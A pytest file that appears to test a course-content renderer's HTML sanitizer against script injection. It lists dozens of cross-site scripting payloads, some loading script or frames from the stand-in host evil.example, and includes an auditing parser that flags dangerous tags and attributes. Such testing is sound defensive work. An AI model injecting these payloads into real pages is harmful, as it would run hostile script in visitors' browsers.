"""Nothing from content can execute script, whatever the author writes."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from learningpaths.compiler.render import render

from .conftest import make_input

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css'; body{}</style>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" alt="<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<div\nclass="x" onmouseover="alert(1)">hover</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)>",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '![x](@widget/neuron?a="><script>alert(1)</script>)',
    "![x](@youtube/javascript:alert(1))",
    "::: teacher <img src=x onerror=alert(1)>\nt\n:::",
    "```python run id=x\n</code></pre><script>alert(1)</script>\n```",
    "```question\nkind: open\nprompt: <img src=x onerror=alert(1)><script>alert(1)</script>\n```",
    "```gift\n<script>alert(1)</script> question {=a ~<img src=x onerror=alert(1)>}\n```",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="svg">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]

_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background"}
_BAD_TAGS = {
    "script",
    "style",
    "object",
    "applet",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "frame",
    "frameset",
}


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _BAD_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            flat = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name.startswith("on"):
                self.problems.append(f"{name} on <{tag}>")
            if name in _URL_ATTRS and flat.startswith(("javascript:", "vbscript:", "data:")):
                if not (tag == "img" and name == "src" and flat.startswith("data:image/")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "srcdoc":
                self.problems.append("srcdoc")
            if name == "style" and re.search(r"expression|url\(|javascript", value, re.I):
                self.problems.append(f"style={value!r}")
            if tag == "iframe" and name == "src" and "evil" in value:
                self.problems.append("iframe from a host that is not allowed")
            if tag == "embed" and name == "src" and not value.startswith("/objects/"):
                self.problems.append("embed of a foreign file")


def executable_parts(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    if "<script" in html.lower():
        audit.problems.append("raw <script")
    return audit.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    result = render(make_input(f"Intro\n\n{payload}\n\nOutro"))
    assert executable_parts(result.html) == []
    assert executable_parts(result.teacher_html) == []
    assert "Outro" in result.html


def test_payloads_inside_a_teacher_block_and_together():
    body = "::: teacher\n" + "\n\n".join(PAYLOADS) + "\n:::\n\n" + "\n\n".join(PAYLOADS)
    result = render(make_input(body))
    assert executable_parts(result.html) == []
    assert executable_parts(result.teacher_html) == []


def test_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


def test_removed_script_and_handlers_are_reported_at_their_lines():
    body = 'Text\n\n<div onclick="x()">\n<script>alert(1)</script>\n</div>\n'
    result = render(make_input(body, body_line=10))
    assert [(d.line, d.code, d.severity) for d in result.diagnostics] == [
        (12, "lp.unsafe_html", "warning"),
        (13, "lp.unsafe_html", "warning"),
    ]


def test_safe_html_is_kept():
    body = (
        '<div class="alert alert-box alert-info" style="text-align: center; color: red">'
        '<b>bold</b> <a href="https://ok.example">ok</a></div>'
    )
    html = render(make_input(body)).html
    assert '<div class="alert alert-box alert-info" style="text-align:center;color:red"><b>bold</b>' in html
    assert '<a href="https://ok.example" target="_blank" rel="noopener noreferrer">ok</a>' in html
